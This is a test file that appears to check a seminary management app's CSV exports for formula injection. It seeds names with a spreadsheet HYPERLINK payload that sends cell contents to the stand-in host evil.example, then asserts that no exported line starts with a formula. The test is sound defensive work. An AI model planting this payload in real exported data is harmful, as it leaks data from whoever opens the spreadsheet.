import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { seminary } from '#tests/support/seminary.ts'

test('no line of any exported table begins with a formula, whatever names hold', async () => {
  const { as, cast, database } = await seminary()
  const formula = `'Ana' || chr(10) || '=HYPERLINK("http://evil.example?" & A1)'`
  await database.pool.query(`update users set name = ${formula}, first_name = ${formula}, last_name = ${formula}`)
  await database.pool.query(`update courses set name = ${formula}`)
  await database.pool.query(`update periods set name = ${formula} || id`)
  const courseId = cast.courses.hermeneutics
  const acta = { courseId, periodId: cast.periods.current }
  const tables = {
    students: as.bruno.exportCourseStudents({ courseId }),
    finals: as.bruno.exportFinalGrades(acta),
    grades: as.carla.exportSecretariatGrades({}),
    people: as.carla.exportPeople({ role: 'student' }),
    teachers: as.carla.exportPeople({ role: 'teacher' }),
    courses: as.carla.exportCourses({}),
    inCourse: as.carla.exportStudentsInCourse({ courseId }),
    periods: as.carla.exportPeriods({}),
    payments: as.carla.exportPayments({}),
    audit: as.carla.exportAudit({}),
    template: as.carla.getImportTemplate({}),
  }
  const hostile: string[] = []
  for (const [name, asked] of Object.entries(tables)) {
    const file = String(await asked)
    const lines = file.split(/[\r\n]/)
    const formulas = lines.filter((line) => /^"*\s*[=+\-@\t]/.test(line))
    expect({ name, formulas }).toEqual({ name, formulas: [] })
    // Every row has the columns of the titles: no cell was cut in two.
    const rows: string[][] = parse(file, { bom: true, delimiter: ';', recordDelimiter: '\r\n' })
    if (rows.flat().some((cell) => cell.includes('HYPERLINK'))) hostile.push(name)
  }
  expect(hostile).toEqual([
    'students',
    'finals',
    'grades',
    'people',
    'teachers',
    'courses',
    'inCourse',
    'periods',
    'payments',
  ])
})
